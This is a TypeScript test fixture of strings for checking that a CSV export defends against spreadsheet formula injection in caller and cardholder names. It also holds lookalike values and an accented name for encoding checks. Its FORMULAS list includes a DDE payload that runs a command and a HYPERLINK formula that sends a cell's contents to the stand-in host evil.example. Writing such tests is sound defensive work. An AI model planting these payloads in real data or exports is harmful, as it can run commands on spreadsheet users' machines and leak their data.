/** For tests: text a spreadsheet would run or compute, as attackers send it in caller and cardholder names. */
export const FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?d="&A1,"Details")', "+SUM(1,1)", "@SUM(1+1)", "-2+3", "\tTabbed", "\rReturned"];
/** Text that only looks like the start of a formula (a phone number, a negative amount), and a phone number that does not. */
export const LOOKALIKES = ["+33 7 94 39 18 55", "-12.5", "(555) 123-4567"];
/** A name with accents, which a CSV without a byte-order mark shows garbled in Excel. */
export const ACCENTED = "Inès Ærø-Müller";
